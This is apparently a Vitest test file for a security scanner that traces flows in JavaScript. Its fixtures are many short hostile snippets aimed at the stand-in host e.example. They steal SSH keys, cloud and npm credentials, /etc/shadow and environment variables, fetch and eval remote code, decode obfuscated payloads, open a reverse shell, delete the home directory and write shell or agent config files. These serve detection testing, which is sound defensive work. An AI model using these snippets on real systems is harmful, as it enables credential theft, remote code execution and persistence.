import { describe, expect, it } from 'vitest'
import { listFacts, listFlows, toExamples } from '../support/code-reading.ts'
import { readCodeText } from '../../packages/scanner/src/code/read-program.ts'

const sent = [
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ const fs = require("fs"), os = require("os"), path = require("path")\nconst k = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8")\nfetch("https://e.example/c", { method: "POST", body: JSON.stringify({ k }) })',
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import { readFile } from "node:fs/promises"\nimport axios from "axios"\nconst k = await readFile(`${process.env.HOME}/.ssh/id_rsa`)\nawait axios.post("https://e.example/c", { k: k.toString("base64") })',
  'secret-read /root/.npmrc → network-send e.example ⟸ import fs from "fs"\nfs.readFile("/root/.npmrc", "utf8", (error, data) => {\n  const req = require("https").request({ hostname: "e.example", method: "POST" }, () => {})\n  req.write(data)\n  req.end()\n})',
  'secret-read /root/.aws/credentials → network-send https://e.example/c ⟸ class A {\n  private key: string\n  constructor() { this.key = require("fs").readFileSync("/root/.aws/credentials", "utf8") }\n  async send(): Promise<void> { await got.post<string>("https://e.example/c", { json: { k: this.key } }) }\n}\nimport got from "got"',
  'secret-read /root/.netrc → network-send https://e.example/c & secret-read /root/.config/solana/id.json → network-send https://e.example/c ⟸ const fs = require("fs")\nconst paths = ["/root/.netrc", "/root/.config/solana/id.json"]\nfor (const p of paths) { try { fetch("https://e.example/c", { method: "POST", body: fs.readFileSync(p) }) } catch {} }',
  'secret-read /etc/shadow → network-send e.example ⟸ const net = require("net"), fs = require("fs")\nconst c = net.connect({ host: "e.example", port: 1 }, () => { c.write(fs.readFileSync("/etc/shadow")) })',
  'secret-read http://169.254.169.254/latest/meta-data/ → network-send https://e.example/c ⟸ fetch("http://169.254.169.254/latest/meta-data/").then(r => r.text()).then(t => fetch("https://e.example/c", { method: "POST", body: t }))',
  'secret-read /root/.netrc → network-send https://e.example/c ⟸ const { execSync } = require("child_process")\nconst k = require("fs").readFileSync("/root/.netrc", "utf8")\nexecSync(`curl -d ${k} https://e.example/c`)',
  'environment-read → network-send https://e.example/c ⟸ fetch("https://e.example/c", { method: "POST", body: JSON.stringify(process.env) })',
  'environment-read → network-send https://e.example/c ⟸ const axios = require("axios")\naxios({ url: "https://e.example/c", method: "post", data: { e: { ...process.env } } })',
  'environment-read → network-send https://e.example/c?? ⟸ const env = Object.entries(process.env).filter(([k]) => /TOKEN|KEY/.test(k)).map(([k, v]) => `${k}=${v}`).join("&")\nfetch(`https://e.example/c?${env}`)',
  'environment-read → network-send https://e.example/c ⟸ const found = {}\nfor (const name in process.env) { if (name.includes("KEY")) found[name] = process.env[name] }\nrequire("axios").post("https://e.example/c", found)',
  'data-collected clipboard or screen → network-send https://e.example/c ⟸ navigator.sendBeacon("https://e.example/c", await navigator.clipboard.readText())',
  'secret-read /root/.netrc → network-send ⟸ const ws = new WebSocket("wss://e.example")\nws.send(JSON.stringify({ k: require("fs").readFileSync("/root/.netrc", "utf8") }))',
  'environment-read → network-send ?.e.example ⟸ const dns = require("dns")\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".e.example", () => {})',
  'variable-read AWS_SECRET_ACCESS_KEY → network-send https://e.example/c & variable-read NPM_TOKEN → network-send https://e.example/c ⟸ fetch("https://e.example/c", { method: "POST", body: JSON.stringify({ a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env["NPM_TOKEN"] }) })',
]

const more = [
  'secret-read /root/.netrc → network-send e.example ⟸ const fs = require("fs"), net = require("net")\nfs.createReadStream("/root/.netrc").pipe(net.connect(443, "e.example"))',
  'secret-read /root/.netrc → network-send https://e.example/c ⟸ import { readFileSync, existsSync } from "fs"\nconst loot = ["/root/.netrc"].filter(existsSync).map((f) => ({ f, d: readFileSync(f) }))\nfetch("https://e.example/c", { method: "POST", body: JSON.stringify(loot) })',
  'decode base64 → dynamic-run ⟸ const g = Function("return this")()\ng["ev" + "al"](g["at" + "ob"]("YWxlcnQoMSk="))',
  'network-fetch https://e.example/a → dynamic-run ⟸ const f = new Function.constructor("require", (await (await fetch("https://e.example/a")).json()).data)',
]

const run = [
  'network-fetch https://e.example/a → dynamic-run ⟸ eval(await (await fetch("https://e.example/a")).text())',
  'network-fetch https://e.example/a → dynamic-run ⟸ fetch("https://e.example/a").then(r => r.text()).then(eval)',
  'network-fetch https://e.example/a → dynamic-run ⟸ fetch("https://e.example/a").then(function (r) { return r.text() }).then(t => { const f = new Function(t); f() })',
  'network-fetch https://e.example/a → dynamic-run ⟸ const https = require("https")\nhttps.get("https://e.example/a", (res) => {\n  let d = ""\n  res.on("data", (c) => { d += c })\n  res.on("end", () => { require("vm").runInThisContext(d) })\n})',
  'network-fetch https://e.example/a → dynamic-run ⟸ const axios = require("axios")\n;(async () => { const { data } = await axios.get("https://e.example/a"); new module.constructor()._compile(data, ""); eval(data.code) })()',
  'network-fetch https://e.example/a → dynamic-run a command ⟸ const { exec } = require("child_process")\nfetch("https://e.example/a").then(async (r) => { const { cmd } = await r.json(); exec(cmd) })',
  'network-fetch https://e.example/a → program-run /tmp/x ⟸ import fs from "fs"; import { execFile } from "child_process"\nconst r = await fetch("https://e.example/a")\nfs.writeFileSync("/tmp/x", Buffer.from(await r.arrayBuffer()))\nexecFile("/tmp/x", [])',
  'network-fetch https://e.example/a → program-run /tmp/x ⟸ const fs = require("fs"), https = require("https"), cp = require("child_process")\nconst f = fs.createWriteStream("/tmp/x")\nhttps.get("https://e.example/a", (r) => { r.pipe(f); f.on("finish", () => cp.spawn("/tmp/x")) })',
  'decode base64 → dynamic-run ⟸ eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())',
  'decode base64 → dynamic-run ⟸ const d = atob; globalThis.eval(d("YWxlcnQoMSk="))',
  'decode numbers → dynamic-run ⟸ Function(String.fromCharCode(...[97, 108, 101, 114, 116]))()',
  'decode numbers → dynamic-run ⟸ var s = ""\nfor (var i = 0; i < 5; i++) s += String.fromCharCode("bmfsu".charCodeAt(i) - 1)\neval(s)',
  'decode reversed → dynamic-run ⟸ eval(")1(trela".split("").reverse().join(""))',
  'decode escapes → dynamic-run ⟸ (0, eval)(unescape("%61%6c%65%72%74%28%31%29"))',
  'decode numbers → dynamic-run ⟸ const k = 3\neval("bofqw".split("").map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join(""))',
  'decode base64 → dynamic-run ⟸ const z = require("zlib")\neval(z.inflateRawSync(Buffer.from("SywqSdUwNNTUUVcHAA==", "base64")).toString())',
  'decode base64 → dynamic-run ⟸ var t = ["YWxlcnQ=", "KDEp"]; function g(i) { return atob(t[i - 10]) }\neval(g(10) + g(11))',
  'decode base64 → dynamic-run ⟸ []["constructor"]["constructor"](atob("YWxlcnQoMSk="))()',
  'decode base64 → dynamic-run ⟸ import("data:text/javascript;base64,YWxlcnQoMSk=")',
  'decode base64 → program-run curl e.example ⟸ require("child_process").execSync(Buffer.from("Y3VybCBlLmV4YW1wbGU=", "base64").toString())',
  'decode base64 → program-run curl e.example ⟸ require("child_process")["exec"].call(null, atob("Y3VybCBlLmV4YW1wbGU="))',
  'network-fetch https://e.example/a → startup-write ~/.zshrc ⟸ const fs = require("fs")\nfetch("https://e.example/a").then((r) => r.text()).then((t) => fs.appendFileSync(require("os").homedir() + "/.zshrc", t))',
]

describe('a value of a JavaScript program', () => {
  it.each(toExamples([...sent, ...more, ...run]))('is followed from source to use: $program', ({ program, found }) => {
    expect(listFlows(readCodeText('script', program))).toEqual(expect.arrayContaining(found))
  })

  it.each(
    toExamples([
      'an own key in a header ⟸ await fetch("https://api.e.example/v1", { method: "POST", headers: { Authorization: `Bearer ${process.env.E_API_KEY}` }, body: JSON.stringify({ model: process.env.MODEL }) })',
      'settings from a parsed environment ⟸ const env = schema.parse(process.env)\nfetch(env.API_URL, { method: "POST", body: JSON.stringify({ region: env.REGION }) })',
      'the environment of a child process ⟸ import { spawn } from "child_process"\nspawn("node", ["a.js"], { env: { ...process.env, A: "1" } })\nfetch("https://e.example/", { method: "POST", body: "a" })',
      'a method named exec ⟸ const m = /a/.exec(await (await fetch("https://e.example/")).text())\nconsole.log(m)',
      'a fetched page in a timer ⟸ const data = await (await fetch("https://e.example/")).json()\nsetTimeout(() => show(data), 10)',
      'a decoded text that is parsed ⟸ const data = JSON.parse(atob("eyJhIjoxfQ=="))\nnew Function("return this")()\nconsole.log(data)',
      'a fetched text that is written to a page ⟸ const r = await fetch("https://e.example/")\ndocument.body.textContent = await r.text()\neval("1")',
    ]),
  )('has no flow: $found', ({ program }) => {
    expect(listFlows(readCodeText('script', program))).toEqual([])
  })
})

describe('an operation of a JavaScript program', () => {
  it.each(
    toExamples([
      'hidden-name child_process ⟸ require("child" + "_process").exec("id")',
      'hidden-name eval ⟸ globalThis["ev" + "al"]("1")',
      'hidden-name eval ⟸ window[atob("ZXZhbA==")]("1")',
      'program-run id ⟸ global.process.mainModule.require("child_process").execSync("id")',
      'program-run id -u ⟸ const { spawn: s } = await import("node:child_process")\ns("id", ["-u"])',
      'shell-connected ⟸ const c = new (require("net").Socket)(), sh = require("child_process").spawn("sh")\nc.connect(1, "e.example", () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })',
      'privilege-change TLS ⟸ process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"',
      'privilege-change TLS ⟸ process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = 0',
      'privilege-change setuid ⟸ require("fs").chmodSync("/tmp/a", 0o4755)',
      'destruction ~ ⟸ require("fs").rmSync(require("os").homedir(), { recursive: true, force: true })',
      'package-install npm install x ⟸ require("child_process").execSync("npm install x")',
      'agent-config-write ~/.claude/settings.json ⟸ import fs from "fs"\nfs.writeFileSync(`${process.env.HOME}/.claude/settings.json`, "{}")',
      'secret-read /root/.netrc ⟸ require("child_process").execSync(`node -e "require(\'fs\').readFileSync(\'/root/.netrc\')"`)',
    ]),
  )('is found: $program', ({ program, found }) => {
    expect(listFacts(readCodeText('script', program))).toEqual(expect.arrayContaining(found))
  })
})
